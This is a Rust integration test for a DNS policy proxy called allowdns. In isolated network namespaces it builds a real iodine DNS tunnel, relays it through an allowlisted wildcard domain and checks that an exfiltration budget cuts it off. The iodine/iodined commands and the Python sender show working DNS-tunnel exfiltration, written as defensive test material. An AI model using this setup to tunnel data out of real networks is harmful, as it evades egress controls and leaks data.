//! A real DNS tunnel against the exfiltration budget (docs/exfiltration.md).
//!
//! Namespaces (created here, removed on drop):
//! - R: allowdns on 192.0.2.1:53, and `iodined` on R's loopback
//!   (127.0.0.1:5300), authoritative for t.cdn.test and allowdns's upstream;
//! - A: the agent, whose only nameserver is allowdns; it runs the `iodine`
//!   client with `-r` (no raw mode: everything goes through allowdns) and
//!   `-T CNAME` (an address type, so the budget, not the qtype filter, must
//!   stop it).
//!
//! Data is pushed from A through the tunnel to a TCP receiver on iodined's
//! tunnel address in R, which counts what arrives. The policy allows
//! `*.cdn.test`. Positive control: with `exfil: {budget: off}` the tunnel
//! carries at least 64 KiB; with the default budget it is cut.
//!
//! Needs root, `ip`, `iodine`, `iodined` (Debian `iodine`) and python3:
//! fails under CI=true without them, skips loudly elsewhere.

use crate::common;

use std::fs::File;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

const DNS: &str = "192.0.2.1";
const TUNNEL_SERVER: &str = "198.51.100.1";
const DOMAIN: &str = "t.cdn.test";
const PASSWORD: &str = "exfil-test-pw";
const PORT: &str = "7000";

/// Accepts one connection and counts the bytes until it goes quiet.
const RECEIVER: &str = r#"
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(1)
limit = float(sys.argv[3])
s.settimeout(limit)
total = 0
try:
    c, _ = s.accept()
    c.settimeout(3)
    end = time.time() + limit
    while time.time() < end:
        try:
            b = c.recv(65536)
        except socket.timeout:
            continue
        if not b:
            break
        total += len(b)
except socket.timeout:
    pass
print("TOTAL", total, flush=True)
"#;

/// Sends random (incompressible: iodine compresses) bytes for a while.
const SENDER: &str = r#"
import os, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
want, end = int(sys.argv[3]), time.time() + float(sys.argv[4])
s.settimeout(1)
sent = 0
while sent < want and time.time() < end:
    try:
        sent += s.send(os.urandom(min(4096, want - sent)))
    except socket.timeout:
        pass
print("SENT", sent, flush=True)
"#;

struct Lab {
    r: String,
    a: String,
    dir: TempDir,
    children: Vec<Child>,
    _ns: netns::Lab,
}

impl Lab {
    fn create(tag: &str) -> Lab {
        let ns = netns::Lab::new(&format!("iodine-{tag}"), &["r", "a"]).veth(
            ("r", "r-a", &format!("{DNS}/30")),
            ("a", "a-r", "192.0.2.2/30"),
        );
        Lab {
            r: ns.name("r").to_string(),
            a: ns.name("a").to_string(),
            dir: TempDir::new("iodine"),
            children: Vec::new(),
            _ns: ns,
        }
    }

    /// Starts `args` in namespace `ns`, output to `log`; killed on drop.
    fn spawn(&mut self, ns: &str, args: &[&str], log: &str) -> PathBuf {
        let path = self.dir.0.join(log);
        let out = File::create(&path).unwrap();
        let child = Command::new("ip")
            .args(["netns", "exec", ns])
            .args(args)
            .stdin(Stdio::null())
            .stdout(out.try_clone().unwrap())
            .stderr(out)
            .spawn()
            .unwrap();
        self.children.push(child);
        path
    }

    /// Runs a python script in `ns` to completion (bounded by its own limits).
    fn python(&self, ns: &str, script: &str, args: &[&str]) -> Child {
        Command::new("ip")
            .args([
                "netns", "exec", ns, "timeout", "60", "python3", "-c", script,
            ])
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

fn wait_in_file(path: &Path, text: &str, within: Duration) -> bool {
    let until = Instant::now() + within;
    while Instant::now() < until {
        if std::fs::read_to_string(path).is_ok_and(|s| s.contains(text)) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    false
}

fn field(output: &std::process::Output, key: &str) -> u64 {
    let text = String::from_utf8_lossy(&output.stdout);
    text.lines()
        .find_map(|l| l.strip_prefix(key)?.trim().parse().ok())
        .unwrap_or_else(|| {
            panic!(
                "no {key} in {text}{}",
                String::from_utf8_lossy(&output.stderr)
            )
        })
}

/// Sets up the tunnel under `policy`, pushes `want` bytes through it for at
/// most `secs`, and returns (bytes received at iodined's side, allowdns's stderr).
fn tunnel(tag: &str, policy: &str, want: usize, secs: u64) -> (u64, String) {
    let mut lab = Lab::create(tag);
    let policy = lab.dir.write("policy.yaml", policy);
    let audit = lab.dir.0.join("audit.jsonl");
    let r = lab.r.clone();
    let a = lab.a.clone();
    let iodined = lab.spawn(
        &r,
        &[
            "iodined",
            "-f",
            "-c",
            "-l",
            "127.0.0.1",
            "-p",
            "5300",
            "-P",
            PASSWORD,
            &format!("{TUNNEL_SERVER}/27"),
            DOMAIN,
        ],
        "iodined.log",
    );
    assert!(
        wait_in_file(&iodined, "Listening to dns", Duration::from_secs(10)),
        "iodined did not start: {}",
        std::fs::read_to_string(&iodined).unwrap_or_default()
    );
    let dns = Allowdns::serve_via(
        &["ip", "netns", "exec", &r],
        &[
            "--listen",
            &format!("{DNS}:53"),
            "--upstream",
            "127.0.0.1:5300",
            "--policy",
            policy.to_str().unwrap(),
            "--audit-log",
            audit.to_str().unwrap(),
        ],
    );
    let client = lab.spawn(
        &a,
        &[
            "iodine", "-f", "-r", "-T", "CNAME", "-P", PASSWORD, DNS, DOMAIN,
        ],
        "iodine.log",
    );
    assert!(
        wait_in_file(
            &client,
            "Connection setup complete",
            Duration::from_secs(25)
        ),
        "the tunnel did not come up: {}\n{}",
        std::fs::read_to_string(&client).unwrap_or_default(),
        dns.stderr()
    );
    let receiver = lab.python(&r, RECEIVER, &[TUNNEL_SERVER, PORT, &secs.to_string()]);
    std::thread::sleep(Duration::from_millis(500));
    let sender = lab.python(
        &a,
        SENDER,
        &[TUNNEL_SERVER, PORT, &want.to_string(), &secs.to_string()],
    );
    let sent = sender.wait_with_output().unwrap();
    let received = receiver.wait_with_output().unwrap();
    let (sent, received) = (field(&sent, "SENT"), field(&received, "TOTAL"));
    eprintln!("{tag}: sent {sent} bytes into the tunnel, {received} arrived at iodined's side");
    let stderr = dns.stderr();
    drop(dns);
    drop(lab);
    (received, stderr)
}

#[test]
fn an_iodine_tunnel_under_an_allowed_wildcard_is_cut_by_the_budget() {
    if !require_root_and(&["ip", "iodine", "iodined", "python3"]) {
        return;
    }
    // The tunnel's run is timed: no lab is built or torn down meanwhile.
    let _alone = alone();
    let started = Instant::now();
    let allow = "agent_name: tunnel\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n";

    // Positive control: without the budget, the tunnel carries 64 KiB and more.
    let off = format!("{allow}exfil:\n  budget: off\n");
    let (carried, _) = tunnel("off", &off, 80 * 1024, 25);
    assert!(
        carried >= 64 * 1024,
        "only {carried} bytes without the budget"
    );

    // The default budget cuts it: less than the hard limit's worth arrives.
    let (carried, stderr) = tunnel("on", allow, 80 * 1024, 15);
    let hard = u64::from(allowdns::serve::exfil::DEFAULT_HARD_BYTES);
    assert!(
        carried < hard,
        "{carried} bytes went through the budget (hard limit {hard} bytes of estimate)"
    );
    assert_has(&stderr, "EXFILTRATION BUDGET EXCEEDED");
    assert_has(&stderr, "domain=\"cdn.test\"");
    assert!(
        started.elapsed() < Duration::from_secs(90),
        "{:?}",
        started.elapsed()
    );
}
